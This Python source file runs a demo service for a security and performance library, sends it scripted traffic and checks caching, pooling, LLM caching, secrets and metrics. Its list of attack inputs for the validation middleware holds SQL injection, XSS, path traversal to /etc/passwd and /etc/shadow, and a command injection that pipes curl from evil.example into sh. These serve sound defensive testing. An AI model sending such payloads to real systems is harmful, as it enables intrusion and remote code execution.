"""``hardpoint demo``: a small service built from every component, driven by scripted traffic.

The service is a Starlette app served by uvicorn on a free loopback port. It is assembled on
embedded defaults, so it needs no Redis, database or cloud account:

- `hardpoint.cache` in memory (Redis when ``HARDPOINT_REDIS_URL`` is set);
- `hardpoint.pool`'s ``web`` preset on a SQLite file (PostgreSQL when ``DATABASE_URL`` is
  set), queried through the sync engine in Starlette's thread pool, since the ``sqlalchemy``
  extra ships no async SQLite driver;
- `hardpoint.validation`'s middleware in front of every route;
- `hardpoint.llm_cache` in front of a fake OpenAI-shaped client with a simulated latency;
- `hardpoint.secrets` on the environment backend;
- `hardpoint.metrics` exporting to a private Prometheus registry, served at ``/metrics``.

The traffic goes over real HTTP with the standard library's ``http.client`` (``make demo``
installs ``hardpoint[all]``, which has no HTTP client), and the summary is read back from the
metrics registry.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import json
import os
import socket
import statistics
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, TextIO
from urllib.parse import urlencode

from hardpoint._optional import requires_extra
from hardpoint.errors import HardpointError

if TYPE_CHECKING:
    from prometheus_client import CollectorRegistry
    from sqlalchemy.engine import Engine
    from starlette.applications import Starlette

    from hardpoint.secrets import SecretsManager

__all__ = ["run_demo"]

_SECRET_PREFIX: Final = "HARDPOINT_DEMO_"  # noqa: S105 - a variable name, not a value
_SECRET_NAME: Final = "PAYMENT_API_KEY"  # noqa: S105 - a variable name, not a value
_SECRET_DEFAULT: Final = "demo-value-not-a-real-key"  # noqa: S105 - a placeholder
_QUERY_LATENCY: Final = 0.05  # seconds: the "slow query" behind the cached product lookup
_LLM_LATENCY: Final = 0.3  # seconds: one round trip to the fake LLM provider
_STAMPEDE: Final = 20
_CACHE_REQUESTS: Final = "hardpoint_cache_requests_total"
_SHORT: Final = {"path_traversal": "traversal", "command_injection": "cmd"}
_WARM_REPEATS: Final = 30
_SECRET_READS: Final = 5

_PRODUCTS: Final = [
    ("sku-1", "Trail running shoe", 12_900),
    ("sku-2", "Rain jacket", 18_900),
    ("sku-3", "O'Brien's wool socks", 1_900),
]

# Benign inputs that naive filters refuse: apostrophes, SQL words, shell punctuation, "<".
_BENIGN: Final[list[tuple[str, str, Mapping[str, str] | None, Mapping[str, str] | None]]] = [
    ("GET", "/search", {"q": "O'Brien"}, None),
    ("GET", "/search", {"q": "Please select a size and drop me a line; thanks!"}, None),
    ("POST", "/comments", None, {"author": "O'Brien", "text": "Rock 'n' roll -- 10/10 <3"}),
    ("POST", "/comments", None, {"author": "Ada", "text": "It's 5 o'clock; don't be late"}),
    ("GET", "/files", {"path": "docs/readme.md"}, None),
    ("GET", "/ping", {"host": "example.com"}, None),
]

# (kind, method, path, query, JSON body): each must be refused with a 400.
_ATTACKS: Final[list[tuple[str, str, str, Mapping[str, str] | None, Mapping[str, str] | None]]] = [
    ("sqli", "GET", "/search", {"q": "' OR 1=1--"}, None),
    ("sqli", "POST", "/comments", None, {"author": "x", "text": "1; DROP TABLE users--"}),
    ("xss", "POST", "/comments", None, {"author": "x", "text": "<script>alert(1)</script>"}),
    ("xss", "GET", "/search", {"q": "<img src=x onerror=alert(1)>"}, None),
    ("path_traversal", "GET", "/files", {"path": "../../etc/passwd"}, None),
    ("path_traversal", "GET", "/files", {"path": "..%2f..%2fetc%2fshadow"}, None),
    ("command_injection", "GET", "/ping", {"host": "127.0.0.1; cat /etc/passwd"}, None),
    ("command_injection", "GET", "/ping", {"host": "$(curl http://evil.example | sh)"}, None),
]

_QUESTION: Final = "What is the capital of France?"
# The same question written differently: runs of spaces and a trailing newline fold away.
_QUESTION_REWORDED: Final = "What is  the capital of   France?\n"


# -- the fake LLM provider ------------------------------------------------------------------


class _FakeCompletions:
    def __init__(self, counts: _Counts) -> None:
        self._counts = counts

    async def create(self, **request: Any) -> dict[str, Any]:
        """Answer like OpenAI's Chat Completions API, after a round trip's worth of sleep."""
        self._counts.provider_calls += 1
        await asyncio.sleep(_LLM_LATENCY)
        question = str(request["messages"][-1]["content"])
        answer = "Paris." if "France" in question else "I am a fake model: ask about France."
        return {
            "id": f"chatcmpl-demo-{self._counts.provider_calls}",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": request["model"],
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": answer},
                    "finish_reason": "stop",
                }
            ],
            "usage": {"prompt_tokens": 1200, "completion_tokens": 300, "total_tokens": 1500},
        }


class _FakeChat:
    def __init__(self, counts: _Counts) -> None:
        self.completions = _FakeCompletions(counts)


class FakeOpenAI:
    """A stand-in for ``openai.AsyncOpenAI``: same shape, no network, a fixed latency."""

    def __init__(self, counts: _Counts) -> None:
        self.chat = _FakeChat(counts)


# -- the service ----------------------------------------------------------------------------


@dataclass
class _Counts:
    """What the app counts itself; everything else is read from the metrics registry."""

    db_queries: int = 0
    provider_calls: int = 0


@dataclass
class _Parts:
    engine: Engine
    database: str
    secrets: SecretsManager
    registry: CollectorRegistry
    counts: _Counts = field(default_factory=_Counts)


def _build_app(parts: _Parts) -> Starlette:
    from sqlalchemy import text
    from starlette.applications import Starlette
    from starlette.concurrency import run_in_threadpool
    from starlette.middleware import Middleware
    from starlette.requests import Request
    from starlette.responses import HTMLResponse, JSONResponse
    from starlette.routing import Route

    from hardpoint.cache import cached
    from hardpoint.llm_cache import GLOBAL, LLMCache
    from hardpoint.metrics import metrics_app
    from hardpoint.validation import InputValidationMiddleware

    engine, counts = parts.engine, parts.counts

    def query_product(sku: str) -> dict[str, Any] | None:
        counts.db_queries += 1
        time.sleep(_QUERY_LATENCY)  # a slow query; SQLite alone would answer in microseconds
        with engine.connect() as conn:
            row = conn.execute(
                text("SELECT sku, name, price_cents FROM hp_demo_products WHERE sku = :sku"),
                {"sku": sku},
            ).first()
        return None if row is None else dict(row._mapping)

    @cached("demo:product", ttl=60)
    async def load_product(sku: str) -> dict[str, Any] | None:
        return await run_in_threadpool(query_product, sku)

    def query_search(q: str) -> list[dict[str, Any]]:
        with engine.connect() as conn:
            rows = conn.execute(
                # A bound parameter: the words in *q* are data, never SQL.
                text("SELECT sku, name FROM hp_demo_products WHERE name LIKE :q"),
                {"q": f"%{q}%"},
            )
            return [dict(row._mapping) for row in rows]

    llm = LLMCache().wrap(FakeOpenAI(counts), scope=GLOBAL)

    async def index(request: Request) -> HTMLResponse:
        links = [
            "/products/sku-1",
            "/search?q=O%27Brien",
            "/search?q=%27%20OR%201%3D1--",
            "/files?path=../../etc/passwd",
            "/ping?host=example.com",
            "/config",
            "/metrics",
        ]
        items = "".join(f'<li><a href="{link}">{link}</a></li>' for link in links)
        return HTMLResponse(
            "<h1>hardpoint demo</h1><p>POST /comments {author, text} and POST /ask "
            f"{{question}} take JSON.</p><ul>{items}</ul>"
        )

    async def product(request: Request) -> JSONResponse:
        found = await load_product(request.path_params["sku"])
        return JSONResponse(found if found else {"error": "not found"}, 200 if found else 404)

    async def search(request: Request) -> JSONResponse:
        q = request.query_params.get("q", "")
        return JSONResponse({"q": q, "results": await run_in_threadpool(query_search, q)})

    async def comments(request: Request) -> JSONResponse:
        comment = await request.json()
        return JSONResponse({"stored": comment}, status_code=201)

    async def files(request: Request) -> JSONResponse:
        # Echoed, never opened: the middleware is what stands between this and a traversal.
        return JSONResponse({"path": request.query_params.get("path", "")})

    async def ping(request: Request) -> JSONResponse:
        # Echoed, never run: the middleware is what stands between this and a shell.
        return JSONResponse({"host": request.query_params.get("host", ""), "alive": True})

    async def ask(request: Request) -> JSONResponse:
        question = (await request.json())["question"]
        reply = await llm.chat.completions.create(
            model="gpt-4o-mini",
            messages=[{"role": "user", "content": question}],
            temperature=0,
        )
        return JSONResponse({"answer": reply["choices"][0]["message"]["content"]})

    async def config(request: Request) -> JSONResponse:
        key = await parts.secrets.aget(_SECRET_NAME)
        # Say that it is there; never put the value in a response.
        return JSONResponse({"payment_api_key": "configured", "length": len(key)})

    return Starlette(
        routes=[
            Route("/", index),
            Route("/products/{sku}", product),
            Route("/search", search),
            Route("/comments", comments, methods=["POST"]),
            Route("/files", files),
            Route("/ping", ping),
            Route("/ask", ask, methods=["POST"]),
            Route("/config", config),
            Route("/metrics", metrics_app(parts.registry)),
        ],
        middleware=[Middleware(InputValidationMiddleware)],
    )


class _Service:
    """Uvicorn serving *app* in a background thread, on a socket bound before it starts."""

    def __init__(self, app: Starlette, *, port: int = 0) -> None:
        import uvicorn

        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind(("127.0.0.1", port))
        self.port: int = self._sock.getsockname()[1]
        # log_config=None: leave the host's logging alone (uvicorn would replace it).
        config = uvicorn.Config(app, log_config=None, log_level="warning", access_log=False)
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(
            target=self._server.run,
            kwargs={"sockets": [self._sock]},
            name="hardpoint-demo-server",
            daemon=True,
        )

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def running(self) -> bool:
        return self._thread.is_alive()

    def __enter__(self) -> _Service:
        self._thread.start()
        deadline = time.monotonic() + 10
        while not self._server.started:
            if not self._thread.is_alive() or time.monotonic() > deadline:
                self.__exit__()
                raise RuntimeError("the demo service did not start")
            time.sleep(0.01)
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._server.should_exit = True
        self._thread.join(timeout=10)
        self._sock.close()


# -- the traffic ------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Reply:
    status: int
    body: str
    seconds: float


class _Client:
    """One HTTP/1.1 connection per request, from the standard library."""

    def __init__(self, port: int) -> None:
        self._port = port
        self.bodies: list[str] = []
        self._lock = threading.Lock()

    def request(
        self,
        method: str,
        path: str,
        *,
        query: Mapping[str, str] | None = None,
        body: Mapping[str, str] | None = None,
    ) -> _Reply:
        target = f"{path}?{urlencode(query)}" if query else path
        headers = {"Content-Type": "application/json"} if body is not None else {}
        payload = None if body is None else json.dumps(body).encode()
        conn = http.client.HTTPConnection("127.0.0.1", self._port, timeout=30)
        start = time.perf_counter()
        try:
            conn.request(method, target, body=payload, headers=headers)
            response = conn.getresponse()
            text = response.read().decode("utf-8", "replace")
        finally:
            conn.close()
        elapsed = time.perf_counter() - start
        with self._lock:
            self.bodies.append(text)
        return _Reply(response.status, text, elapsed)


class _Progress:
    """A plain-text progress bar: redrawn in place on a terminal, one line per phase elsewhere."""

    def __init__(self, total: int, out: TextIO | None) -> None:
        self._total = total
        self._done = 0
        self._out = out
        self._tty = out is not None and out.isatty()
        self._lock = threading.Lock()
        self._label = ""

    def _bar(self) -> str:
        width = 30
        filled = width * self._done // self._total
        return f"[{'#' * filled}{'.' * (width - filled)}] {self._done:3d}/{self._total}"

    def phase(self, label: str) -> None:
        self._label = label
        if self._tty and self._out is not None:
            self._out.write(f"\r{self._bar()} {label:<58}")
            self._out.flush()

    def advance(self) -> None:
        with self._lock:
            self._done += 1
            if self._tty and self._out is not None:
                self._out.write(f"\r{self._bar()} {self._label:<58}")
                self._out.flush()

    def end_phase(self, result: str) -> None:
        if self._out is None:
            return
        if self._tty:
            self._out.write(f"\r{self._bar()} {self._label:<58}\n")
        else:
            self._out.write(f"{self._bar()} {self._label}\n")
        self._out.write(f"    {result}\n")
        self._out.flush()


@dataclass
class _Results:
    cold: float = 0.0
    warm: list[float] = field(default_factory=list)
    stampede_wall: float = 0.0
    stampede_ok: int = 0
    queries_after_warm: int = 0
    warm_hits: float = 0.0
    warm_misses: float = 0.0
    queries_after_stampede: int = 0
    llm_times: list[float] = field(default_factory=list)
    benign_blocked: list[str] = field(default_factory=list)
    benign_times: list[float] = field(default_factory=list)
    attacks_blocked: dict[str, int] = field(default_factory=dict)
    attacks_missed: list[str] = field(default_factory=list)
    attack_times: list[float] = field(default_factory=list)
    secret_statuses: list[int] = field(default_factory=list)
    secret_times: list[float] = field(default_factory=list)
    metrics_time: float = 0.0
    metrics_series: int = 0


def _drive(
    client: _Client,
    counts: _Counts,
    progress: _Progress,
    cache_counts: Callable[[], tuple[float, float]],
) -> _Results:
    res = _Results()

    def get(path: str, **kw: Any) -> _Reply:
        reply = client.request("GET", path, **kw)
        progress.advance()
        return reply

    def post(path: str, body: Mapping[str, str]) -> _Reply:
        reply = client.request("POST", path, body=body)
        progress.advance()
        return reply

    progress.phase(f"cache: GET /products/sku-1, then {_WARM_REPEATS} more")
    res.cold = get("/products/sku-1").seconds
    res.warm = [get("/products/sku-1").seconds for _ in range(_WARM_REPEATS)]
    res.queries_after_warm = counts.db_queries
    res.warm_hits, res.warm_misses = cache_counts()
    progress.end_phase(
        f"{res.queries_after_warm} database query; cold {res.cold * 1e3:.0f} ms, "
        f"then {statistics.median(res.warm) * 1e3:.1f} ms (median)"
    )

    progress.phase(f"cache: {_STAMPEDE} concurrent GETs of a cold key")
    barrier = threading.Barrier(_STAMPEDE)

    def stampede(_: int) -> _Reply:
        barrier.wait()
        return get("/products/sku-2")

    start = time.perf_counter()
    with ThreadPoolExecutor(max_workers=_STAMPEDE, thread_name_prefix="hp-demo-client") as pool:
        replies = list(pool.map(stampede, range(_STAMPEDE)))
    res.stampede_wall = time.perf_counter() - start
    res.stampede_ok = sum(r.status == 200 for r in replies)
    res.queries_after_stampede = counts.db_queries - res.queries_after_warm
    progress.end_phase(
        f"{res.stampede_ok} answers, {res.queries_after_stampede} database query, "
        f"{res.stampede_wall * 1e3:.0f} ms wall"
    )

    progress.phase("llm_cache: ask, ask again, ask reworded")
    for question in (_QUESTION, _QUESTION, _QUESTION_REWORDED):
        res.llm_times.append(post("/ask", {"question": question}).seconds)
    progress.end_phase(
        f"{counts.provider_calls} provider call; "
        + ", ".join(f"{t * 1e3:.0f} ms" for t in res.llm_times)
    )

    progress.phase(f"validation: {len(_BENIGN)} benign requests (quotes, SQL words)")
    for method, path, query, body in _BENIGN:
        reply = client.request(method, path, query=query, body=body)
        progress.advance()
        res.benign_times.append(reply.seconds)
        if reply.status >= 400:
            res.benign_blocked.append(f"{method} {path} -> {reply.status}")
    progress.end_phase(
        f"{len(_BENIGN) - len(res.benign_blocked)} passed, {len(res.benign_blocked)} blocked"
    )

    progress.phase(f"validation: {len(_ATTACKS)} attacks")
    for kind, method, path, query, body in _ATTACKS:
        reply = client.request(method, path, query=query, body=body)
        progress.advance()
        res.attack_times.append(reply.seconds)
        rule = json.loads(reply.body).get("rule") if reply.status == 400 else None
        if rule == kind:
            res.attacks_blocked[kind] = res.attacks_blocked.get(kind, 0) + 1
        else:
            res.attacks_missed.append(f"{kind}: {method} {path} -> {reply.status}")
    progress.end_phase(
        f"{sum(res.attacks_blocked.values())} blocked with 400, {len(res.attacks_missed)} missed"
    )

    progress.phase(f"secrets: GET /config {_SECRET_READS} times")
    for _ in range(_SECRET_READS):
        reply = get("/config")
        res.secret_statuses.append(reply.status)
        res.secret_times.append(reply.seconds)
    progress.end_phase(f"{sum(s == 200 for s in res.secret_statuses)} answers, value never sent")

    progress.phase("metrics: GET /metrics")
    reply = get("/metrics")
    res.metrics_time = reply.seconds
    res.metrics_series = sum(line.startswith("hardpoint_") for line in reply.body.splitlines())
    progress.end_phase(f"{res.metrics_series} hardpoint series in {len(reply.body):,} bytes")
    return res


_REQUESTS: Final = (
    1 + _WARM_REPEATS + _STAMPEDE + 3 + len(_BENIGN) + len(_ATTACKS) + _SECRET_READS + 1
)


# -- the summary ----------------------------------------------------------------------------


def _samples(registry: CollectorRegistry, name: str) -> Iterator[tuple[dict[str, str], float]]:
    for metric in registry.collect():
        for sample in metric.samples:
            if sample.name == name:
                yield sample.labels, sample.value


def _metric(registry: CollectorRegistry, name: str, **labels: str) -> float:
    return sum(
        value
        for have, value in _samples(registry, name)
        if all(have.get(k) == v for k, v in labels.items())
    )


def _ms(seconds: float) -> str:
    return f"{seconds * 1e3:.1f} ms"


def _print_table(rows: list[tuple[str, str, str, str]], out: TextIO) -> None:
    headers = ("module", "what the demo did", "result (from /metrics and the app)", "timing")
    table = [headers, *rows]
    widths = [max(len(row[i]) for row in table) for i in range(len(headers))]
    line = "+".join("-" * (w + 2) for w in widths)
    out.write(f"+{line}+\n")
    for n, row in enumerate(table):
        cells = " | ".join(cell.ljust(w) for cell, w in zip(row, widths, strict=True))
        out.write(f"| {cells} |\n")
        if n == 0:
            out.write(f"+{line}+\n")
    out.write(f"+{line}+\n")


def _summarise(
    parts: _Parts, res: _Results, secret_value: str, client: _Client, out: TextIO
) -> bool:
    reg, counts = parts.registry, parts.counts
    backend = "redis" if os.environ.get("HARDPOINT_REDIS_URL") else "memory"
    hits = _metric(reg, _CACHE_REQUESTS, prefix="demo:product", result="hit")
    misses = _metric(reg, _CACHE_REQUESTS, prefix="demo:product", result="miss")
    lookups = _metric(reg, "hardpoint_cache_lookup_duration_seconds_count", prefix="demo:product")
    lookup_sum = _metric(reg, "hardpoint_cache_lookup_duration_seconds_sum", prefix="demo:product")
    llm_hits = _metric(reg, "hardpoint_llm_cache_requests_total", result="hit")
    dollars = _metric(reg, "hardpoint_llm_cache_saved_dollars_total")
    blocked: dict[str, float] = {}
    for labels, value in _samples(reg, "hardpoint_validation_blocked_requests_total"):
        blocked[labels["rule"]] = blocked.get(labels["rule"], 0) + value
    secret_reads = {
        labels["result"]: value
        for labels, value in _samples(reg, "hardpoint_secret_reads_total")
        if labels.get("secret") == _SECRET_NAME
    }
    checkouts = _metric(reg, "hardpoint_pool_checkout_wait_seconds_count")
    wait = _metric(reg, "hardpoint_pool_checkout_wait_seconds_sum")
    pool_timeouts = _metric(reg, "hardpoint_pool_timeouts_total")
    leaked = sum(secret_value in body for body in client.bodies)

    total_blocked = int(sum(blocked.values()))
    miss_time = res.llm_times[0]
    hit_time = statistics.median(res.llm_times[1:])
    rows = [
        (
            "cache",
            f"GET /products/sku-1 x {1 + _WARM_REPEATS} ({backend})",
            f"{res.warm_hits:.0f} hits, {res.warm_misses:.0f} miss, "
            f"{res.queries_after_warm} db query",
            f"cold {_ms(res.cold)}, hit {_ms(statistics.median(res.warm))} "
            f"(lookup {lookup_sum / max(lookups, 1) * 1e6:.0f} µs)",
        ),
        (
            "cache",
            f"{_STAMPEDE} concurrent GETs, cold key",
            f"{res.stampede_ok} answers, {res.queries_after_stampede} db query "
            f"({misses - res.warm_misses:.0f} misses, 1 ran)",
            f"{_ms(res.stampede_wall)} wall",
        ),
        (
            "pool",
            f"'web' preset, {parts.database}",
            f"{checkouts:.0f} checkouts, {pool_timeouts:.0f} timeouts",
            f"wait {wait / max(checkouts, 1) * 1e6:.0f} µs avg",
        ),
        (
            "llm_cache",
            "POST /ask: ask, again, reworded",
            f"{counts.provider_calls} provider call, {llm_hits:.0f} saved (${dollars:.5f})",
            f"miss {miss_time * 1e3:.0f} ms, hit {_ms(hit_time)}",
        ),
        (
            "validation",
            f"{len(_BENIGN)} benign (O'Brien, select..drop)",
            f"{len(res.benign_blocked)} blocked",
            f"{_ms(statistics.median(res.benign_times))} median",
        ),
        (
            "validation",
            f"{len(_ATTACKS)} attacks",
            f"{total_blocked} blocked: "
            + ", ".join(f"{_SHORT.get(r, r)} {n:.0f}" for r, n in sorted(blocked.items())),
            f"{_ms(statistics.median(res.attack_times))} median",
        ),
        (
            "secrets",
            f"GET /config x {_SECRET_READS} (environment)",
            f"{secret_reads.get('miss', 0):.0f} fetch, {secret_reads.get('hit', 0):.0f} cached, "
            f"{leaked} leaks",
            f"{_ms(statistics.median(res.secret_times))} median",
        ),
        (
            "metrics",
            "GET /metrics (private registry)",
            f"{res.metrics_series} hardpoint series",
            _ms(res.metrics_time),
        ),
    ]
    out.write("\nhardpoint demo summary\n")
    _print_table(rows, out)

    checks = [
        ("cache hits", f"{hits:.0f}", hits > 0),
        (
            "stampede database queries",
            f"{res.queries_after_stampede} for {_STAMPEDE} requests",
            res.queries_after_stampede == 1 and res.stampede_ok == _STAMPEDE,
        ),
        (
            "attacks blocked",
            f"{total_blocked} of {len(_ATTACKS)}",
            not res.attacks_missed and total_blocked == len(_ATTACKS),
        ),
        (
            "benign requests blocked",
            f"{len(res.benign_blocked)} of {len(_BENIGN)}",
            not res.benign_blocked,
        ),
        (
            "secret reads",
            f"{sum(secret_reads.values()):.0f}, value leaked {leaked} times",
            sum(secret_reads.values()) > 0 and leaked == 0,
        ),
        ("LLM calls saved", f"{llm_hits:.0f}", llm_hits > 0),
        ("pool checkouts", f"{checkouts:.0f}", checkouts > 0),
    ]
    out.write("\nchecks\n")
    for name, shown, ok in checks:
        out.write(f"  {'ok  ' if ok else 'FAIL'} {name}: {shown}\n")
    for problem in res.benign_blocked + res.attacks_missed:
        out.write(f"  unexpected: {problem}\n")
    return all(ok for _, _, ok in checks)


# -- wiring ---------------------------------------------------------------------------------


@contextlib.contextmanager
def _environ(name: str, default: str) -> Iterator[str]:
    """Set ``$name`` to *default* unless it is set; restore the environment afterwards."""
    had = name in os.environ
    os.environ.setdefault(name, default)
    try:
        yield os.environ[name]
    finally:
        if not had:
            os.environ.pop(name, None)


def _database(stack: contextlib.ExitStack) -> tuple[Engine, str]:
    from sqlalchemy import text

    from hardpoint.pool import create_engine

    url = os.environ.get("DATABASE_URL")
    if url:
        # The app queries through the sync engine: psycopg 3 for any PostgreSQL URL.
        scheme, _, rest = url.partition("://")
        if scheme in ("postgres", "postgresql", "postgresql+asyncpg", "postgresql+psycopg_async"):
            url = f"postgresql+psycopg://{rest}"
        label = "PostgreSQL ($DATABASE_URL)"
    else:
        tmp = stack.enter_context(tempfile.TemporaryDirectory(prefix="hardpoint-demo-"))
        url = f"sqlite:///{Path(tmp) / 'demo.db'}"
        label = "SQLite, a temporary file"
    engine = create_engine(url, preset="web")
    stack.callback(engine.dispose)
    with engine.begin() as conn:
        conn.execute(text("DROP TABLE IF EXISTS hp_demo_products"))
        conn.execute(
            text(
                "CREATE TABLE hp_demo_products "
                "(sku VARCHAR(32) PRIMARY KEY, name VARCHAR(200), price_cents INTEGER)"
            )
        )
        conn.execute(
            text("INSERT INTO hp_demo_products VALUES (:sku, :name, :price)"),
            [{"sku": s, "name": n, "price": p} for s, n, p in _PRODUCTS],
        )

    def drop() -> None:
        with engine.begin() as conn:
            conn.execute(text("DROP TABLE IF EXISTS hp_demo_products"))

    stack.callback(drop)
    return engine, label


def _wait_for_interrupt(service: _Service, out: TextIO) -> None:
    out.write(
        f"\nserving on {service.url}/ (try /products/sku-1, /search?q=O%27Brien, /metrics);"
        " Ctrl-C stops\n"
    )
    out.flush()
    with contextlib.suppress(KeyboardInterrupt):
        while service.running:
            time.sleep(0.2)
    out.write("stopped\n")


def run_demo(*, quiet: bool = False, serve: bool = False, port: int = 0, out: TextIO) -> int:
    """Start the demo service, drive scripted traffic at it and write a summary to *out*.

    Args:
        quiet: Print only the summary table and the checks, no progress.
        serve: Keep the service up after the summary, until Ctrl-C.
        port: The loopback port to serve on; 0 picks a free one.
        out: Where to write.

    Returns:
        The process exit status: 0 when every component did what it should, 1 when a check
        failed, 2 when a package of ``hardpoint[all]`` is missing.
    """
    try:
        with requires_extra("all", feature="hardpoint demo"):
            import prometheus_client
            import sqlalchemy  # noqa: F401 - checked here, used by the pool
            import starlette  # noqa: F401 - checked here, used by the app
            import uvicorn  # noqa: F401 - checked here, used by _Service
    except HardpointError as exc:
        out.write(f"hardpoint demo: {exc}\n")
        return 2

    from hardpoint.cache import close_cache, configure_cache, get_cache
    from hardpoint.metrics import install_prometheus
    from hardpoint.secrets import EnvBackend, SecretsManager

    say = None if quiet else out
    with contextlib.ExitStack() as stack:
        registry = prometheus_client.CollectorRegistry()
        exporter = install_prometheus(registry)
        stack.callback(exporter.uninstall)

        redis_url = os.environ.get("HARDPOINT_REDIS_URL")
        configure_cache(redis_url, namespace="hp-demo") if redis_url else configure_cache()
        stack.callback(close_cache)
        get_cache().clear()  # a cold start, also with Redis (only the demo's namespace)

        secret_value = stack.enter_context(_environ(_SECRET_PREFIX + _SECRET_NAME, _SECRET_DEFAULT))
        secrets = SecretsManager(EnvBackend(prefix=_SECRET_PREFIX))
        stack.callback(secrets.close)

        engine, database = _database(stack)
        parts = _Parts(engine=engine, database=database, secrets=secrets, registry=registry)
        service = stack.enter_context(_Service(_build_app(parts), port=port))
        if say is not None:
            say.write(f"hardpoint demo: service on {service.url} ({database})\n")
        client = _Client(service.port)

        def cache_counts() -> tuple[float, float]:
            hit = _metric(registry, _CACHE_REQUESTS, prefix="demo:product", result="hit")
            miss = _metric(registry, _CACHE_REQUESTS, prefix="demo:product", result="miss")
            return hit, miss

        results = _drive(client, parts.counts, _Progress(_REQUESTS, say), cache_counts)
        ok = _summarise(parts, results, secret_value, client, out)
        if serve:
            _wait_for_interrupt(service, out)
    return 0 if ok else 1
